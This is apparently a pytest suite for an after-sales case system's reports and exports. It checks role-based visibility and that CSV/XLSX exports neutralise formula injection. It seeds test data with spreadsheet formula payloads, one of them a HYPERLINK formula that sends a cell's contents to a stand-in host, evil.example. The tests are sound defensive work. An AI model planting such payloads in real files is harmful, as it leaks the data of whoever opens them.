"""Reports and exports over HTTP (P2, P3, formula injection), on the real app and a seeded read model
(reports are counted from the register; no Temporal is called):

- every report, list and export shows only the cases its reader may see: the same cases as the
  reader's register (GET /cases, filtered by access.visible_cases_clause, the rule of GET /cases/{no}),
  for every demo account (the access matrix extended to reports and exports);
- no CSV or XLSX the product writes holds a cell a spreadsheet would run as a formula: CSV cells that
  begin with =, +, -, @, tab or CR carry a leading apostrophe; XLSX cells are strings with the
  quote-prefix style, never formulas; the property import refuses such names."""

import csv
import io
import zipfile
from datetime import datetime, timedelta, timezone

import httpx
import pytest
import pytest_asyncio
from openpyxl import load_workbook

from aftersales import access
from adapters.db.models import Case, WorkerEvaluation
from adapters.db.staff import DEMO_ACCOUNTS
from api.app import create_app

BJ = timezone(timedelta(hours=8))
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
FORMULAS = (HYPERLINK, "+SUM(1,2)", "=1+2", "@SUM(A1)", "-2+3")
MONTH, QUARTER = "2026-11", "2026Q4"
TAB_FORMULA, CR_FORMULA = "\t=1+2", "\r=1+2"  # a tab or CR before a formula: also run by spreadsheets


def row(no: str, case_type: str, **columns) -> Case:
    received = datetime(2026, 11, 10, 10, tzinfo=BJ).astimezone(timezone.utc)
    values = dict(case_no=no, case_type=case_type, status="closed", channel="phone", category="漏水", project="融侨城",
                  building="5栋", unit="1203", department=None, handler=None, major=False, justified=True,
                  escalation_level=0, overdue=False, customer_name="王女士", customer_phone_masked="138****1234",
                  received_at=received, closed_at=received + timedelta(days=2), outcome="resolved", satisfaction=5,
                  linked_case_no=None, seq=1, updated_at=received, view={},
                  company_id="rq", project_key="融侨城")  # P5: 融侨置业's
    values.update(columns)
    return Case(**values)


def seeded() -> list:
    return [
        # a complaint of 工程部 whose compensation finance paid (finance reached it; the auditor did not)
        row("TS-2026-000001", "complaint", department="工程部", category=HYPERLINK, project="+SUM(1,2)",
            customer_name="=1+2", compensation_fen=80000, compensation_paid=True, reached_roles=",finance,"),
        # a complaint of 物业部 with a compensation not yet approved: no approval role reached it
        row("TS-2026-000002", "complaint", department="物业部", category=TAB_FORMULA, compensation_fen=50000,
            compensation_paid=False, reached_roles=""),
        # an owner-paid repair the owner paid (finance reached it), surveyed for CT-DEMO
        row("WX-2026-000001", "repair", department="工程部", project="+SUM(1,2)", customer_name="=1+2", unit="@SUM(A1)",
            building="-2+3", paid_service=True, service_fee_fen=12000, service_paid_fen=12000, reached_roles=",finance,",
            contractor_id="CT-DEMO"),
        # an owner-paid repair quoted, not accepted: nobody but the repair side and those who see all
        row("WX-2026-000002", "repair", paid_service=True, service_fee_fen=9000, reached_roles="", customer_name=CR_FORMULA),
        WorkerEvaluation(evaluation_key="e1", worker="zhou", case_no="WX-2026-000001", quarter=QUARTER, source="sign_off",
                         parts=1, quality=5, attitude=5, at=datetime(2026, 11, 12, tzinfo=timezone.utc)),
        WorkerEvaluation(evaluation_key="e2", worker="li", case_no="WX-2026-000002", quarter=QUARTER, source="sign_off",
                         parts=1, quality=4, attitude=4, at=datetime(2026, 11, 12, tzinfo=timezone.utc)),
    ]


@pytest_asyncio.fixture
async def api(settings, sessionmaker):
    async with sessionmaker() as session:
        session.add_all(seeded())
        await session.commit()
    app = create_app(settings, temporal=object(), sessionmaker=sessionmaker)  # reports never call Temporal
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api.test") as client:
        tokens: dict[str, dict[str, str]] = {}

        async def token(username: str) -> dict[str, str]:
            if username not in tokens:
                r = await client.post("/auth/token", data={"username": username, "password": settings.demo_password})
                tokens[username] = {"Authorization": f"Bearer {r.json()['access_token']}"}
            return tokens[username]
        client.token = token  # type: ignore[attr-defined]
        yield client


def csv_table(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_no_formula_cell(table: list[list[str]]) -> None:
    for cells in table:
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-2"), cells


def assert_workbook_has_no_formula(content: bytes) -> list:
    """No <f> in any sheet; every text that begins like a formula is a string cell with the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(content))
    risky = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r
             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for c in risky:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    return [c.value for c in risky]


# ---- P2: every report, list and export: the reader's own cases ----------------------------------------

USERNAMES = [a[0] for a in DEMO_ACCOUNTS]


def role_of(username: str):
    return next(a[1] for a in DEMO_ACCOUNTS if a[0] == username)


@pytest.mark.asyncio
async def test_P2_money_reports_and_their_csv_show_only_the_cases_the_reader_may_see(api):
    readers = {r.value for r in access.ENDPOINTS["read_money_reports"]}
    shown_to = {}
    for username in USERNAMES:
        h = await api.token(username)
        register = await api.get("/cases", params={"page_size": 100}, headers=h)
        assert register.status_code == 200, register.text
        sees = {c["case_no"] for c in register.json()["items"]}
        role = next(a[1] for a in DEMO_ACCOUNTS if a[0] == username)
        comp = await api.get("/reports/compensation", params={"month": MONTH}, headers=h)
        paid = await api.get("/reports/paid-services", params={"month": MONTH}, headers=h)
        paid_csv = await api.get("/reports/paid-services", params={"month": MONTH}, headers={**h, "Accept": "text/csv"})
        if role.value not in readers:
            assert {comp.status_code, paid.status_code, paid_csv.status_code} == {403}, username
            continue
        assert comp.status_code == paid.status_code == paid_csv.status_code == 200, (username, comp.text)
        compensation = {i["case_no"] for i in comp.json()["items"]}
        assert compensation == sees & {"TS-2026-000001", "TS-2026-000002"}, username
        services = {i["case_no"] for i in paid.json()["items"]}
        assert services == sees & {"WX-2026-000001", "WX-2026-000002"}, username
        assert {r[0] for r in csv_table(paid_csv.text)[1:]} == services, username
        assert paid.json()["summary"]["cases"] == len(services)
        shown_to[username] = compensation | services
    # the review's findings: the paid compensation of 工程部's complaint is not the auditor's nor the repair lead's
    assert "TS-2026-000001" not in shown_to["auditor"] | shown_to["repair_lead"]
    assert shown_to["auditor"] == set() and shown_to["finance"] == {"TS-2026-000001", "WX-2026-000001"}
    assert shown_to["gm"] == {"TS-2026-000001", "TS-2026-000002", "WX-2026-000001", "WX-2026-000002"}


@pytest.mark.asyncio
async def test_P2_worker_scores_count_only_the_repairs_the_reader_may_see(api):
    readers = {r.value for r in access.ENDPOINTS["read_worker_report"]}
    for username in USERNAMES:
        h = await api.token(username)
        sees = {c["case_no"] for c in (await api.get("/cases", params={"page_size": 100}, headers=h)).json()["items"]}
        r = await api.get("/reports/workers", params={"quarter": QUARTER}, headers=h)
        if role_of(username).value not in readers:
            assert r.status_code == 403, (username, r.status_code)
            continue
        assert r.status_code == 200, r.text
        expected = {w for w, no in (("zhou", "WX-2026-000001"), ("li", "WX-2026-000002")) if no in sees}
        assert {w["worker"] for w in r.json()["workers"]} == expected, username
    assert (await api.get("/reports/workers", params={"quarter": QUARTER},
                          headers=await api.token("deputy_chief_engineer"))).json()["workers"] == []


@pytest.mark.asyncio
async def test_P2_stored_reports_are_read_only_by_roles_that_see_every_case(api):
    """The stored reports (K1–K3) are figures over every case of the period: only roles that see every
    case may generate or read them, and they are 403 for everyone else; P5: another company's report does not
    exist for a reader (404)."""
    made = await api.post("/reports", json={"kind": "monthly_complaints", "period": MONTH},
                          headers=await api.token("cs_manager"))
    assert made.status_code == 201, made.text
    for username in USERNAMES:
        h = await api.token(username)
        total = (await api.get("/cases", params={"page_size": 100}, headers=h)).json()["total"]
        report = made.json()['id']
        for path in (f"/reports/{report}", f"/reports/{report}.csv", f"/reports/{report}.xlsx", f"/reports/{report}.png",
                     "/reports", f"/app/reports/{report}.csv", f"/app/reports/{report}.xlsx"):
            if path.startswith("/app/"):  # the workbench's downloads, for the page's session
                api.cookies.set("aftersales_session", h["Authorization"].removeprefix("Bearer "))
                try:
                    r = await api.get(path)
                finally:
                    api.cookies.clear()
            else:
                r = await api.get(path, headers=h)
            assert r.status_code in (200, 403, 404), (username, path, r.status_code)
            assert (r.status_code == 404) == (username == "cs_manager2" and path != "/reports"), (username, path)
            if r.status_code == 200 and path == "/reports":  # P5: the list holds the reports of the reader's scope
                assert (made.json()["id"] in {i["id"] for i in r.json()}) == (total == 4), username
            elif r.status_code == 200:
                assert total == 4, (username, path)  # a reader of an aggregate sees every case it counts


# ---- formula injection: every CSV and XLSX ----------------------------------------------------------------

@pytest.mark.asyncio
async def test_formulas_typed_into_cases_are_neutralised_in_every_csv_and_xlsx(api):
    h = await api.token("cs_manager")
    paid_csv = await api.get("/reports/paid-services", params={"month": MONTH}, headers={**h, "Accept": "text/csv"})
    table = csv_table(paid_csv.text)
    assert_no_formula_cell(table)
    cells = {c for r in table for c in r}
    assert {"'=1+2", "'+SUM(1,2)", "'@SUM(A1)", "'-2+3", f"'{CR_FORMULA}"} <= cells, cells
    for kind in ("monthly_complaints", "paid_services", "quarterly"):
        made = await api.post("/reports", json={"kind": kind, "period": QUARTER if kind == "quarterly" else MONTH},
                              headers=h)
        assert made.status_code == 201, made.text
        report_id = made.json()["id"]
        as_csv = await api.get(f"/reports/{report_id}.csv", headers=h)
        assert as_csv.status_code == 200
        assert_no_formula_cell(csv_table(as_csv.text))
        as_xlsx = await api.get(f"/reports/{report_id}.xlsx", headers=h)
        assert as_xlsx.status_code == 200
        kept = assert_workbook_has_no_formula(as_xlsx.content)
        # the text itself is kept (as text): the sheet 按类别 shows the category as typed
        assert (HYPERLINK in kept) == (kind != "paid_services") and "+SUM(1,2)" in kept, kept
        if kind == "monthly_complaints":
            assert {f"'{HYPERLINK}", f"'{TAB_FORMULA}"} <= {c for r in csv_table(as_csv.text) for c in r}
            assert TAB_FORMULA in kept, kept


@pytest.mark.asyncio
@pytest.mark.parametrize("name", FORMULAS)
async def test_the_property_import_refuses_names_that_begin_like_a_formula(api, name):
    h = await api.token("cs_manager")
    body = "项目,楼栋,房号,已售,已入住,业主姓名\n融侨城,5栋,1203,是,是,王女士\n" + f'"{name.replace(chr(34), chr(34) * 2)}",6栋,101,是,否,李先生\n'
    r = await api.post("/admin/properties/import", files={"file": ("units.csv", body.encode(), "text/csv")}, headers=h)
    assert r.status_code == 422, r.text
    assert any(e["row"] == 3 and e["column"] == "项目" and "公式" in e["reason"] for e in r.json()["errors"]), r.text
    assert (await api.get("/properties", headers=h)).json() == []  # all or nothing: nothing imported
